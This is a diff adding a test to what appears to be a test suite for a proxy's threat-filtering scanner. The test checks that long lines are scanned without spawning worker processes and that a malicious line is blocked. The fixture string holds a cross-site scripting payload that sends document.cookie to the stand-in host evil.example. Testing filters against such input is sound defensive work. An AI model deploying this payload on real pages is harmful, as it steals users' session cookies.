@@ -1,4 +1,5 @@
 import io
+import multiprocessing
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -169,3 +170,26 @@ async def test_scan_prints_the_decision_under_the_route_bands_and_the_score(rout
     [record] = records(out.getvalue())
     assert record["decision"] == decision
     assert (record["score"] > 0) is bool(decision)
+
+
+async def test_long_lines_are_inspected_without_worker_processes() -> None:
+    """A scan has no event loop to keep free: starting offload processes would only cost it time."""
+    settings = parse_settings({
+        "upstreams": {"chat": {"url": "http://127.0.0.1:9"}},
+        "offload": {"mode": "process", "from_chars": 64, "start": "eager"},
+        "filters": {"threat": {"use": "threat"}},
+        "routes": [{"name": "chat", "match": {"path": "/x"}, "upstream": "chat", "allow": ["anonymous"],
+                    "filters": ["threat"]}],
+    })
+    long_attack = "look at this page " * 4 + "<script>document.location='http://evil.example/?c='+document.cookie</script>"
+    children: list[multiprocessing.process.BaseProcess] = []
+
+    async def lines() -> AsyncIterator[bytes]:
+        yield orjson.dumps(long_attack)
+        children.extend(multiprocessing.active_children())
+        yield b'"hello there"'
+
+    out = io.BytesIO()
+    assert await scan(settings, "chat", "inbound", lines(), out) == 0
+    assert children == []
+    assert [r["action"] for r in records(out.getvalue())] == ["block", "pass"]
